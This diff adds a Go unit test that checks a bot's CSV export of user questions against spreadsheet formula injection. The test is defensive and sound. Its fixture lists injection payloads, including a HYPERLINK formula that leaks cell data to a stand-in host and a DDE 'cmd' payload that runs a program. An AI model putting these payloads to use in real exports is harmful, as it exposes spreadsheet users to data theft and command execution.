@@ -3,6 +3,7 @@ package main
 import (
 	"context"
 	"database/sql"
+	"encoding/csv"
 	"encoding/json"
 	"log/slog"
 	"net/http"
@@ -172,3 +173,29 @@ func TestPrune(t *testing.T) {
 }
 
 func discardLogger() *slog.Logger { return slog.New(slog.DiscardHandler) }
+
+// Anyone can write to the bot, and editors open `compass gaps --format
+// csv` in a spreadsheet: a question that starts like a formula must stay
+// text there (CSV injection), never run, fetch or link.
+func TestGaps_CSVQuestionsAreNeverFormulas(t *testing.T) {
+	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+43 660 cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"}
+	groups := []*gapGroup{{Count: 2, Example: formulas[0], Questions: formulas, Langs: map[string]int{"en": 2}, Regions: map[string]int{"at-graz": 2}}}
+	var out strings.Builder
+	if err := writeGapsCSV(&out, groups, gapsScope{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell a spreadsheet takes for a formula: %q", cell)
+			}
+		}
+		if !strings.Contains(row[6], "HYPERLINK") || !strings.Contains(row[7], "@SUM(1,1)") {
+			t.Errorf("the questions' text is lost: %q", row)
+		}
+	}
+}
